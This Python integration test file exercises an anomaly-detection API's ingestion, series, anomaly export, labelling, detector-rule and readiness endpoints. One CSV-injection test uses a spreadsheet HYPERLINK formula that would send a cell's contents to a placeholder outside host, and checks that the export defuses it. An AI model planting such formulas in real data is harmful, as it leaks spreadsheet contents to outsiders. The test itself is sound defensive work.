"""What each endpoint does, against the real app, PostgreSQL and Kafka."""

from __future__ import annotations

import asyncio
import csv
import io
import time
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from aiokafka import AIOKafkaConsumer, TopicPartition
from aiokafka.admin import AIOKafkaAdminClient
from aiokafka.admin.config_resource import ConfigResource, ConfigResourceType
from starlette.requests import ClientDisconnect

from stream_app.api.anomalies import _ExportResponse, _Slot
from tests.api.conftest import ApiEnv, auth

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module")]


async def consume(env: ApiEnv, topic: str, min_count: int, within_s: float = 15.0) -> list[Any]:
    """Records of ``topic`` from the beginning until ``min_count`` arrived (deadline)."""
    consumer = AIOKafkaConsumer(**env.settings.kafka_client_kwargs(), group_id=None)
    await consumer.start()
    try:
        tp = TopicPartition(topic, 0)
        consumer.assign([tp])
        await consumer.seek_to_beginning(tp)
        records: list[Any] = []
        deadline = time.monotonic() + within_s
        while len(records) < min_count and time.monotonic() < deadline:
            batch = await consumer.getmany(tp, timeout_ms=200)
            records.extend(batch.get(tp, []))
        return records
    finally:
        await consumer.stop()


def ingest(env: ApiEnv) -> dict[str, str]:
    return auth(env.tokens.role("ingest"))


def viewer(env: ApiEnv) -> dict[str, str]:
    return auth(env.tokens.role("viewer"))


# --- readings -------------------------------------------------------------------------


async def test_readings_partial_batch_is_produced_with_key_and_ingested_at(api_env: ApiEnv) -> None:
    batch = [
        {"entity": "site-a/m-1", "ts": "2026-11-26T10:00:00Z", "metrics": {"temp": 20.5}},
        {"entity": "site-a/m-1", "ts": "2026-11-26T10:00:01Z", "metrics": {"temp": "hot"}},
        {"entity": "site-b/m-2", "ts": 1795687200.5, "metrics": {"temp": None}},
    ]
    response = await api_env.client.post("/v1/readings", json=batch, headers=ingest(api_env))
    assert response.status_code == 202
    body = response.json()
    assert (body["accepted"], body["rejected"]) == (2, 1)
    assert body["errors"][0]["index"] == 1
    assert body["errors"][0]["pointer"] == "/metrics/temp"
    records = await consume(api_env, api_env.settings.topic_readings, 2)
    produced = {r.key: orjson.loads(r.value) for r in records}
    assert set(produced) >= {b"site-a/m-1", b"site-b/m-2"}
    assert all(isinstance(v["ingested_at"], float) for v in produced.values())


async def test_ndjson_with_a_bad_line(api_env: ApiEnv) -> None:
    body = (
        b'{"entity": "nd/1", "ts": "2026-11-26T10:00:00Z", "metrics": {"v": 1}}\n'
        b"{not json\n"
        b'{"entity": "nd/1", "ts": "2026-11-26T10:00:01Z", "metrics": {"v": 2}}\n'
    )
    headers = {**ingest(api_env), "Content-Type": "application/x-ndjson"}
    response = await api_env.client.post("/v1/readings", content=body, headers=headers)
    assert response.status_code == 202
    assert response.json()["accepted"] == 2
    assert response.json()["errors"][0]["index"] == 1


@pytest.mark.parametrize(
    ("item", "field", "pointer"),
    [
        ({"ts": "2026-11-26T10:00:00Z", "metrics": {"v": 1}}, "entity", "/entity"),
        ({"entity": "a b", "ts": "2026-11-26T10:00:00Z", "metrics": {"v": 1}}, "entity", "/entity"),
        ({"entity": "a", "ts": "yesterday", "metrics": {"v": 1}}, "ts", "/ts"),
        ({"entity": "a", "ts": 1.0, "metrics": {}}, "metrics", "/metrics"),
        ({"entity": "a", "ts": 1.0, "metrics": {"v": 1}, "extra": 1}, "", ""),
    ],
)
async def test_all_invalid_is_422_with_the_field(
    api_env: ApiEnv, item: dict[str, Any], field: str, pointer: str
) -> None:
    response = await api_env.client.post("/v1/readings", json=[item], headers=ingest(api_env))
    assert response.status_code == 422
    error = response.json()["errors"][0]
    assert (error["field"], error["pointer"]) == (field, pointer)
    assert error["message"]


@pytest.mark.parametrize(
    # an integer of 309 to 4,300 digits was a 500 (OverflowError in the fallback parser)
    "literal",
    [b"NaN", b"Infinity", b"-Infinity", b"1e999", b"9" * 400, b"-" + b"9" * 4000, b"1.7e308"],
)
async def test_non_finite_values_are_rejected(api_env: ApiEnv, literal: bytes) -> None:
    body = b'[{"entity": "a", "ts": 1.0, "metrics": {"v": ' + literal + b"}}]"
    headers = {**ingest(api_env), "Content-Type": "application/json"}
    response = await api_env.client.post("/v1/readings", content=body, headers=headers)
    assert response.status_code == 422
    assert response.json()["errors"][0]["pointer"] == "/metrics/v"


async def test_a_large_batch_being_checked_does_not_stop_other_requests(
    api_env: ApiEnv, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 4.5 MB NDJSON batch took seconds to check on the event loop, and /healthz and
    every viewer's request waited for it (a liveness probe with a 1 s timeout failed).
    Here the check is made to take a second, on a body of any size."""
    from stream_app.api import readings

    checked = readings._checked

    def slow(body: bytes, content_type: str) -> Any:
        time.sleep(1.0)
        return checked(body, content_type)

    monkeypatch.setattr(readings, "_INLINE_BYTES", 0)
    monkeypatch.setattr(readings, "_checked", slow)
    line = orjson.dumps({"entity": "big/x", "ts": 1.0, "metrics": {"v": 1.0}})
    headers = {**ingest(api_env), "Content-Type": "application/x-ndjson"}
    post = asyncio.create_task(
        api_env.client.post("/v1/readings", content=b"\n".join([line] * 100), headers=headers)
    )
    await asyncio.sleep(0.1)  # the batch is being checked
    asked = time.perf_counter()
    health = await api_env.client.get("/healthz")
    waited = time.perf_counter() - asked
    assert health.status_code == 200
    assert waited < 0.5, waited  # not the check's second (on the event loop: all of it)
    response = await post
    assert response.status_code == 202, response.text


async def test_unparseable_or_empty_or_wrong_type(api_env: ApiEnv) -> None:
    headers = {**ingest(api_env), "Content-Type": "application/json"}
    for body in (b"[{", b"[]"):
        response = await api_env.client.post("/v1/readings", content=body, headers=headers)
        assert response.status_code == 422, body
    headers["Content-Type"] = "text/plain"
    response = await api_env.client.post("/v1/readings", content=b"x", headers=headers)
    assert response.status_code == 415


async def test_oversized_body_is_413_by_length_and_while_streaming(api_env: ApiEnv) -> None:
    limit = api_env.settings.api_max_body_bytes
    big = b"[" + b" " * (limit + 10) + b"]"
    headers = {**ingest(api_env), "Content-Type": "application/json"}
    response = await api_env.client.post("/v1/readings", content=big, headers=headers)
    assert response.status_code == 413

    async def chunks() -> AsyncIterator[bytes]:  # no Content-Length: chunked
        for _ in range(limit // 4096 + 4):
            yield b" " * 4096

    response = await api_env.client.post("/v1/readings", content=chunks(), headers=headers)
    assert response.status_code == 413
    # An unauthenticated oversized body never reaches the handler either.
    response = await api_env.client.post("/v1/anomalies/x/ack", content=big)
    assert response.status_code == 413
    # ... and each is counted under its route (it was "unmatched": answered before routing)
    text = (await api_env.client.get("/metrics")).text
    assert 'method="POST",route="/v1/readings",status="413"}' in text
    assert 'route="/v1/anomalies/{episode_id}/ack",status="413"' in text


# --- series ---------------------------------------------------------------------------


async def test_series_by_prefix(api_env: ApiEnv) -> None:
    response = await api_env.client.get(
        "/v1/series", params={"entity_prefix": "plant-"}, headers=viewer(api_env)
    )
    assert response.status_code == 200
    assert [(s["entity"], s["metric"]) for s in response.json()["items"]] == [
        ("plant-1/pump-2", "temperature")
    ]
    for literal in ("plant_", "%"):  # LIKE wildcards are taken literally
        response = await api_env.client.get(
            "/v1/series", params={"entity_prefix": literal}, headers=viewer(api_env)
        )
        assert response.json()["items"] == []


async def test_series_pages_follow_the_cursor(api_env: ApiEnv) -> None:
    """``/v1/series`` had a ``limit`` and no cursor, as the anomalies have: a fleet larger
    than 10,000 series could only be listed by guessing prefixes. Pages of 2 and 3 (the
    last one full: no empty page after it) give the one listing, in its order."""
    prefix = f"paged-{uuid.uuid4().hex[:8]}"
    # several metrics of one entity, and entities that are prefixes of one another
    keys = [(f"{prefix}/a", "m1"), (f"{prefix}/a", "m2"), (f"{prefix}/a", "m3")]
    keys += [(f"{prefix}/a/b", "m1"), (f"{prefix}/b", "m1"), (f"{prefix}/c-1", "x")]
    at = datetime(2026, 11, 20, tzinfo=UTC)
    for entity, metric in keys:
        api_env.sql("INSERT INTO series VALUES (%s, %s, %s, %s)", (entity, metric, at, at))

    async def listing(**params: Any) -> dict[str, Any]:
        response = await api_env.client.get(
            "/v1/series", params={"entity_prefix": prefix, **params}, headers=viewer(api_env)
        )
        assert response.status_code == 200, response.text
        page: dict[str, Any] = response.json()
        return page

    try:
        whole = await listing()
        assert whole["next_cursor"] is None
        expected = [(s["entity"], s["metric"]) for s in whole["items"]]
        assert sorted(expected) == sorted(keys)
        for size in (2, 3):
            seen: list[tuple[str, str]] = []
            pages = 0
            cursor = None
            while True:
                page = await listing(limit=size, **({"cursor": cursor} if cursor else {}))
                pages += 1
                assert 0 < len(page["items"]) <= size
                seen += [(s["entity"], s["metric"]) for s in page["items"]]
                cursor = page["next_cursor"]
                if cursor is None:
                    break
            assert seen == expected and pages == -(-len(keys) // size)
    finally:
        api_env.sql("DELETE FROM series WHERE entity LIKE %s", (f"{prefix}/%",))


async def test_a_series_cursor_it_did_not_make_is_422(api_env: ApiEnv) -> None:
    for cursor in ("bm9wZQ", "not base64 at all!", "WzEsMl0"):  # "nope", junk, [1,2]
        response = await api_env.client.get(
            "/v1/series", params={"cursor": cursor}, headers=viewer(api_env)
        )
        assert response.status_code == 422, (cursor, response.text)


async def test_observations_raw_and_downsampled(api_env: ApiEnv) -> None:
    s = api_env.seeded
    path = f"/v1/series/{s['entity']}/{s['metric']}/observations"
    start = s["start"]
    params = {"from": start.isoformat(), "to": start.replace(hour=1).isoformat()}
    raw = (await api_env.client.get(path, params=params, headers=viewer(api_env))).json()
    assert not raw["downsampled"] and len(raw["points"]) == 60
    assert raw["from"] == start.isoformat().replace("+00:00", "Z")
    params = {"from": start.isoformat(), "to": "2026-11-23T00:00:00Z", "max_points": 100}
    down = (await api_env.client.get(path, params=params, headers=viewer(api_env))).json()
    assert down["downsampled"] and down["bucket_seconds"] == 2592
    assert 90 <= len(down["points"]) <= 100
    assert sum(p["n"] for p in down["points"]) == 3 * 24 * 60
    assert max(p["max_value"] for p in down["points"]) == 100.0  # the spike survives
    assert sum(p["is_anomaly"] for p in down["points"]) == 1


async def test_values_at_the_schemas_bound_stay_readable_in_every_mean(api_env: ApiEnv) -> None:
    """Readings the schema accepted (1e200 beside 2e200, up to 1e300) made PostgreSQL's
    avg() overflow (it keeps the sum of squared deviations): 422 on the series'
    downsampled view, and the rollup views unreadable for every entity. The bound is
    now where a bucket's squares stay finite."""
    import psycopg

    from stream_app.wire.reading import MAX_VALUE

    entity, metric = "bound/extreme", "m"
    start = api_env.seeded["start"]
    with (
        psycopg.connect(api_env.conninfo, autocommit=True) as conn,
        conn.cursor().copy(
            "COPY observations (entity, metric, ts, value, expected, lower, upper, score,"
            " is_anomaly, status, detector) FROM STDIN"
        ) as copy,
    ):
        for i in range(3000):
            v = MAX_VALUE if i % 2 else -MAX_VALUE
            ts = start + timedelta(seconds=30 * i)
            copy.write_row((entity, metric, ts, v, -v, -MAX_VALUE, MAX_VALUE, 0.5, False,
                            "ok", "robust_seasonal"))  # fmt: skip
    try:
        path = f"/v1/series/{entity}/{metric}/observations"
        params = {"from": start.isoformat(), "to": "2026-11-23T00:00:00Z", "max_points": 10}
        down = await api_env.client.get(path, params=params, headers=viewer(api_env))
        assert down.status_code == 200, down.text
        assert sum(p["n"] for p in down.json()["points"]) == 3000
        with psycopg.connect(api_env.conninfo, autocommit=True) as conn:
            for query in (
                "SELECT max(abs(avg_value)) FROM observations_5m",
                "SELECT max(abs(avg_value)) FROM observations_1h",
            ):
                row = conn.execute(query).fetchone()
                assert row is not None and row[0] is not None and row[0] <= MAX_VALUE
    finally:
        with psycopg.connect(api_env.conninfo, autocommit=True) as conn:
            conn.execute("DELETE FROM observations WHERE entity = %s", (entity,))


# --- anomalies ------------------------------------------------------------------------


async def test_anomaly_pages_follow_the_cursor(api_env: ApiEnv) -> None:
    seen: list[str] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"limit": 2}
        if cursor:
            params["cursor"] = cursor
        page = (
            await api_env.client.get("/v1/anomalies", params=params, headers=viewer(api_env))
        ).json()
        seen += [a["id"] for a in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == list(reversed(api_env.seeded["episode_ids"]))
    bad = await api_env.client.get(
        "/v1/anomalies", params={"cursor": "bm9wZQ"}, headers=viewer(api_env)
    )
    assert bad.status_code == 422


@pytest.mark.parametrize("path", ["/v1/anomalies", "/v1/anomalies/export"])
async def test_a_reversed_time_range_is_refused_as_on_the_series_route(
    api_env: ApiEnv, path: str
) -> None:
    """Both answered 200 and nothing; the observations route said 422 already."""
    reversed_range = {"from": "2026-11-22T00:00:00Z", "to": "2026-11-21T00:00:00Z"}
    response = await api_env.client.get(path, params=reversed_range, headers=viewer(api_env))
    assert response.status_code == 422 and "from" in response.json()["detail"]
    # the same moment is a question: the episodes active then
    moment = {"from": "2026-11-20T00:02:00Z", "to": "2026-11-20T00:02:00Z"}
    response = await api_env.client.get(path, params=moment, headers=viewer(api_env))
    assert response.status_code == 200, response.text


async def test_anomaly_filters(api_env: ApiEnv) -> None:
    async def ids(**params: Any) -> list[str]:
        r = await api_env.client.get("/v1/anomalies", params=params, headers=viewer(api_env))
        assert r.status_code == 200, r.text
        return [a["id"] for a in r.json()["items"]]

    e = api_env.seeded["episode_ids"]
    assert await ids(status="open") == [e[0]]
    assert set(await ids(severity=["high", "critical"])) == {e[2], e[3], e[4]}
    assert await ids(entity_prefix="other/") == [e[4]]
    assert await ids(**{"from": "2026-11-20T12:00:00Z", "to": "2026-11-20T18:00:01Z"}) == [
        e[3],
        e[2],
    ]
    missing = await api_env.client.get("/v1/anomalies/nope", headers=viewer(api_env))
    assert missing.status_code == 404


async def test_export_csv_and_ndjson_match_the_list(api_env: ApiEnv) -> None:
    listed = (
        await api_env.client.get("/v1/anomalies", params={"limit": 100}, headers=viewer(api_env))
    ).json()["items"]
    ndjson = await api_env.client.get(
        "/v1/anomalies/export", params={"format": "ndjson"}, headers=viewer(api_env)
    )
    assert ndjson.headers["content-type"].startswith("application/x-ndjson")
    lines = [orjson.loads(line) for line in ndjson.content.splitlines()]
    assert [x["id"] for x in lines] == [x["id"] for x in listed]
    exported = await api_env.client.get(
        "/v1/anomalies/export", params={"format": "csv", "severity": "low"}, headers=viewer(api_env)
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["id"] for r in rows] == [api_env.seeded["episode_ids"][0]]


async def test_exports_run_on_connections_of_their_own_and_at_most_so_many_at_once(
    api_env: ApiEnv,
) -> None:
    """Each export held a connection of the routes' pool (4) for as long as it streamed
    (a million episodes: about 25 s): four exports made every other route 503 after its
    5 s wait. Exports have their own connections, at most ``api_max_exports`` at once;
    one more is 503 with Retry-After, and each gives its place back when it ends."""
    state = api_env.app.state.api
    assert state.export_pool is not None and state.export_pool is not state.pool
    limit = api_env.settings.api_max_exports
    for _ in range(limit + 2):  # one after another: each ends and gives its place back
        done = await api_env.client.get("/v1/anomalies/export", headers=viewer(api_env))
        assert done.status_code == 200, done.text
    assert state.exports_running == 0
    # every export connection taken (as by exports streaming): the routes still answer
    held = [state.export_pool.connection() for _ in range(limit)]
    for conn in held:
        await conn.__aenter__()
    try:
        listed = await api_env.client.get("/v1/anomalies", headers=viewer(api_env))
        assert listed.status_code == 200, listed.text
    finally:
        for conn in held:
            await conn.__aexit__(None, None, None)
    state.exports_running = limit  # as many exports as may run are streaming
    try:
        refused = await api_env.client.get("/v1/anomalies/export", headers=viewer(api_env))
        listed = await api_env.client.get("/v1/anomalies", headers=viewer(api_env))
    finally:
        state.exports_running = 0
    assert refused.status_code == 503 and refused.headers["retry-after"] == "30", refused.text
    assert "exports are running" in refused.json()["detail"]
    assert listed.status_code == 200


class _ExportPlaces:
    """What an export's place is taken from and given back to (the API's state); the
    export under test takes one."""

    exports_running = 0


async def test_an_export_the_client_leaves_before_its_first_row_gives_its_place_back() -> None:
    """A client gone before the first row: the body is never started (so a ``finally``
    in it never runs), and the export's place must still be given back."""
    state = _ExportPlaces()
    started = False

    async def body() -> AsyncIterator[bytes]:
        nonlocal started
        started = True
        yield b"never"

    async def gone(message: Any) -> None:
        raise OSError("the client left")

    response = _ExportResponse(_Slot(state), body())  # type: ignore[arg-type]
    with pytest.raises(ClientDisconnect):
        await response({"type": "http", "asgi": {"spec_version": "2.4"}}, None, gone)
    assert not started and state.exports_running == 0


async def test_an_export_whose_client_stops_reading_gives_its_place_back(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A client that keeps its connection open but reads nothing (its socket buffer full,
    so every send waits): before, it held the export's place, and its connection in an
    open transaction, for as long as it liked; two such clients made every other export
    503 for good (a live API: still 503 after 45 s). It now ends after EXPORT_STALL_S."""
    from stream_app.api import anomalies

    monkeypatch.setattr(anomalies, "EXPORT_STALL_S", 0.2, raising=False)
    state = _ExportPlaces()
    closed = False

    async def body() -> AsyncIterator[bytes]:
        nonlocal closed
        try:
            for _ in range(1000):
                yield b"row\n"
        finally:
            closed = True  # its cursor and connection given back (not left to the collector)

    sent: list[Any] = []

    async def stalled(message: Any) -> None:
        sent.append(message)
        if message["type"] == "http.response.body":
            await asyncio.Event().wait()  # the client never takes it

    response = _ExportResponse(_Slot(state), body())  # type: ignore[arg-type]
    with pytest.raises(ClientDisconnect):
        await asyncio.wait_for(
            response({"type": "http", "asgi": {"spec_version": "2.4"}}, None, stalled), 5
        )
    assert state.exports_running == 0 and closed
    assert [m["type"] for m in sent] == ["http.response.start", "http.response.body"]


async def test_the_csv_export_hands_a_spreadsheet_text_not_formulas(api_env: ApiEnv) -> None:
    # an operator's comment is free text: opened in a spreadsheet, the CSV must show it,
    # not run it (CSV injection); the NDJSON export keeps it as written
    episode = api_env.seeded["episode_ids"][1]
    comment = '=HYPERLINK("http://example.invalid/?"&A2,"details")'
    op = auth(api_env.tokens.role("operator", sub="@oscar"))
    r = await api_env.client.post(
        f"/v1/anomalies/{episode}/ack", json={"comment": comment}, headers=op
    )
    assert r.status_code == 200, r.text
    exported = await api_env.client.get(
        "/v1/anomalies/export", params={"format": "csv"}, headers=viewer(api_env)
    )
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    row = next(r for r in rows if r["id"] == episode)
    assert row["ack_comment"] == "'" + comment
    assert row["acknowledged_by"] == "'@oscar"
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@"]
    ndjson = await api_env.client.get(
        "/v1/anomalies/export", params={"format": "ndjson"}, headers=viewer(api_env)
    )
    lines = [orjson.loads(line) for line in ndjson.content.splitlines()]
    kept = next(x for x in lines if x["id"] == episode)
    assert (kept["ack_comment"], kept["acknowledged_by"]) == (comment, "@oscar")


async def test_ack_and_label_are_stored_and_label_is_published(api_env: ApiEnv) -> None:
    episode = api_env.seeded["episode_ids"][3]
    op = auth(api_env.tokens.role("operator", sub="olga"))
    r = await api_env.client.post(
        f"/v1/anomalies/{episode}/ack", json={"comment": "seen"}, headers=op
    )
    assert r.status_code == 200 and r.json()["acknowledged_by"] == "olga"
    r = await api_env.client.post(
        f"/v1/anomalies/{episode}/label",
        json={"label": "false_positive", "comment": "maintenance"},
        headers=op,
    )
    assert r.status_code == 200
    row = api_env.sql(
        "SELECT acknowledged_by, ack_comment, label, label_comment, labelled_by FROM anomalies"
        " WHERE id = %s",
        (episode,),
    )
    assert row == [("olga", "seen", "false_positive", "maintenance", "olga")]
    records = await consume(api_env, api_env.settings.topic_feedback, 1)
    events = [
        orjson.loads(r.value) for r in records if orjson.loads(r.value)["episode_id"] == episode
    ]
    assert events and events[-1]["label"] == "false_positive" and events[-1]["by"] == "olga"
    assert records[-1].key == b"plant-1/pump-2"
    r = await api_env.client.post("/v1/anomalies/missing/label", json={"label": "x"}, headers=op)
    assert r.status_code == 422


async def test_only_a_change_of_label_is_published_as_feedback(api_env: ApiEnv) -> None:
    """Each feedback event doubles (or halves) the series' margin: the same label sent six
    times (a retry, a script) pushed it to 64x, a series that no longer pages."""
    episode = api_env.seeded["episode_ids"][2]
    op = auth(api_env.tokens.role("operator", sub="otto"))
    sent = ["false_positive", "false_positive", "true_positive", "true_positive", "false_positive"]
    for i, (label, kept) in enumerate(zip(sent, ["#0", "#0", "#2", "#2", "#4"], strict=True)):
        r = await api_env.client.post(
            f"/v1/anomalies/{episode}/label", json={"label": label, "comment": f"#{i}"}, headers=op
        )
        assert r.status_code == 200 and r.json()["label"] == label
        assert r.json()["label_comment"] == kept  # a repeat leaves the label as it was
    records = await consume(api_env, api_env.settings.topic_feedback, 10**6, within_s=3.0)
    published = [orjson.loads(r.value) for r in records]
    labels = [e["label"] for e in published if e["episode_id"] == episode]
    assert labels == ["false_positive", "true_positive", "false_positive"]


# --- detectors ------------------------------------------------------------------------


async def test_detector_rules_round_trip_through_the_compacted_topic(api_env: ApiEnv) -> None:
    admin = auth(api_env.tokens.role("admin"))
    rule = {"pattern": "site-*/temp", "detector": "ewma_z", "policy": {"threshold": 0.995}}
    assert (
        await api_env.client.put("/v1/detectors/rt", json=rule, headers=admin)
    ).status_code == 200
    listed = (await api_env.client.get("/v1/detectors", headers=viewer(api_env))).json()["items"]
    assert {"name": "rt", **rule} in listed
    assert (await api_env.client.delete("/v1/detectors/rt", headers=admin)).status_code == 204
    listed = (await api_env.client.get("/v1/detectors", headers=viewer(api_env))).json()["items"]
    assert all(item["name"] != "rt" for item in listed)
    for bad in (
        {"pattern": "x", "detector": "nope"},
        {"pattern": "x", "policy": {"threshold": 2}},
        {"pattern": "x", "policy": {"bogus": 1}},
        {"pattern": "x", "extra": 1},
    ):
        response = await api_env.client.put("/v1/detectors/bad", json=bad, headers=admin)
        assert response.status_code == 422, bad
    client = AIOKafkaAdminClient(**api_env.settings.kafka_client_kwargs())
    await client.start()
    try:
        resource = ConfigResource(ConfigResourceType.TOPIC, api_env.settings.topic_control)
        described = await client.describe_configs([resource])
    finally:
        await client.close()
    configs = {c[0]: c[1] for c in described[0].resources[0][4]}
    assert configs["cleanup.policy"] == "compact"


@pytest.mark.parametrize(
    ("section", "key", "absurd"),
    [
        ("policy", "min_points", 1e30),
        ("policy", "cooldown_points", 1e30),
        ("policy", "max_points", 1e30),
        ("policy", "false_episode_days", 1e300),
        ("policy", "false_episode_points", 1e308),
        ("policy", "budget_growth_points", 1e300),
        ("policy", "budget_growth_days", 1e300),
        ("policy", "budget_growth_max", 1e308),
        ("cleaning", "allowed_lateness_s", 1e300),
        ("cleaning", "silence_intervals", 1e300),
        ("cleaning", "stuck_min_points", 1e18),
        ("cleaning", "warmup_points", 1e30),
        ("limits", "lower", -1e300),
        ("limits", "upper", 1e300),
    ],
)
async def test_a_rule_with_an_absurd_number_is_422_naming_the_field_and_its_range(
    api_env: ApiEnv, section: str, key: str, absurd: float
) -> None:
    """Each of these was stored (200) and published to every worker: min_points 1e30, and
    no episode could ever open on the series it matched."""
    admin = auth(api_env.tokens.role("admin"))
    rule = {"pattern": "absurd-*/x", section: {key: absurd}}
    response = await api_env.client.put("/v1/detectors/absurd", json=rule, headers=admin)
    assert response.status_code == 422, response.text
    assert response.json()["detail"].startswith(f"{section}: {key} must be within ")
    listed = (await api_env.client.get("/v1/detectors", headers=viewer(api_env))).json()["items"]
    assert all(item["name"] != "absurd" for item in listed)


# --- operations -----------------------------------------------------------------------


async def test_ready_and_metrics_with_bounded_labels(api_env: ApiEnv) -> None:
    ready = await api_env.client.get("/readyz")
    assert ready.status_code == 200 and ready.json()["checks"] == {"postgres": "ok", "kafka": "ok"}
    s = api_env.seeded
    await api_env.client.get(
        f"/v1/series/{s['entity']}/{s['metric']}/observations", headers=viewer(api_env)
    )
    text = (await api_env.client.get("/metrics")).text
    assert 'route="/v1/series/{entity}/{metric}/observations"' in text
    assert "plant-1" not in text  # never an entity in a label
    assert "tsguard_api_request_seconds_bucket" in text


async def test_readyz_is_503_when_postgres_is_unreachable(
    api_env: ApiEnv, dev_key_file: Any
) -> None:
    from pydantic import SecretStr

    from stream_app.api.app import create_app
    from tests.api.conftest import api_settings

    settings = api_settings(
        dev_key_file,
        pg_dsn=SecretStr("postgresql://nobody:x@127.0.0.1:1/none?connect_timeout=1"),
        kafka_bootstrap_servers="127.0.0.1:1",
    )
    app = create_app(settings)
    import httpx

    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
            response = await client.get("/readyz")
            assert response.status_code == 503
            assert (await client.get("/healthz")).status_code == 200
            token = api_env.tokens.role("viewer")
            r = await asyncio.wait_for(client.get("/v1/series", headers=auth(token)), 60)
            assert r.status_code == 503


async def test_an_api_on_a_database_never_migrated_is_503_and_not_ready(
    api_env: ApiEnv, dev_key_file: Any, pg_conninfo: str
) -> None:
    """The API does not migrate (the workers do, at their start). Started before any had,
    it answered every database route 500 with a traceback in its log (``relation
    "anomalies" does not exist``), and /readyz said the database was fine."""
    import uuid

    import httpx
    import psycopg
    from psycopg import sql
    from psycopg.conninfo import make_conninfo
    from pydantic import SecretStr

    from stream_app.api.app import create_app
    from tests.api.conftest import api_settings

    name = f"api_bare_{uuid.uuid4().hex[:12]}"
    with psycopg.connect(pg_conninfo, autocommit=True) as conn:
        conn.execute(sql.SQL("CREATE SCHEMA {}").format(sql.Identifier(name)))
    try:
        bare = make_conninfo(pg_conninfo, options=f"-c search_path={name}")
        settings = api_settings(
            dev_key_file, pg_dsn=SecretStr(bare), kafka_bootstrap_servers="127.0.0.1:1"
        )
        app = create_app(settings)
        op = auth(api_env.tokens.role("operator"))
        hint = "database schema not migrated: run `tsguard db migrate`"
        async with app.router.lifespan_context(app):
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
                ready = await client.get("/readyz")
                assert ready.status_code == 503
                assert ready.json()["checks"]["postgres"].startswith(
                    "error: schema not migrated"
                ), ready.json()
                for method, path, body in (
                    ("GET", "/v1/anomalies", None),
                    ("GET", "/v1/series", None),
                    ("POST", "/v1/anomalies/ep-1/ack", {}),
                ):
                    r = await client.request(method, path, json=body, headers=op)
                    assert r.status_code == 503, (path, r.text)
                    assert r.json()["detail"].startswith(hint), r.json()
    finally:
        with psycopg.connect(pg_conninfo, autocommit=True) as conn:
            conn.execute(sql.SQL("DROP SCHEMA {} CASCADE").format(sql.Identifier(name)))


async def test_ack_and_label_on_a_read_only_database_are_503_not_500(
    api_env: ApiEnv, dev_key_file: Any
) -> None:
    """A database that is up but takes no writes (a failover in progress) is unavailable
    for a moment, as one that is down: 503, which a client retries; before, 500."""
    from psycopg.conninfo import conninfo_to_dict, make_conninfo
    from pydantic import SecretStr

    from stream_app.api.app import create_app
    from tests.api.conftest import api_settings

    options = conninfo_to_dict(api_env.conninfo).get("options") or ""
    read_only = make_conninfo(
        api_env.conninfo, options=f"{options} -c default_transaction_read_only=on"
    )
    settings = api_settings(
        dev_key_file, pg_dsn=SecretStr(read_only), kafka_bootstrap_servers="127.0.0.1:1"
    )
    app = create_app(settings)
    import httpx

    episode = api_env.seeded["episode_ids"][2]
    op = auth(api_env.tokens.role("operator"))
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
            r = await client.get(f"/v1/anomalies/{episode}", headers=op)
            assert r.status_code == 200  # reads still work
            r = await client.post(f"/v1/anomalies/{episode}/ack", json={}, headers=op)
            assert (r.status_code, r.json()) == (503, {"detail": "database unavailable"})
            r = await client.post(
                f"/v1/anomalies/{episode}/label", json={"label": "true_positive"}, headers=op
            )
            assert r.status_code == 503
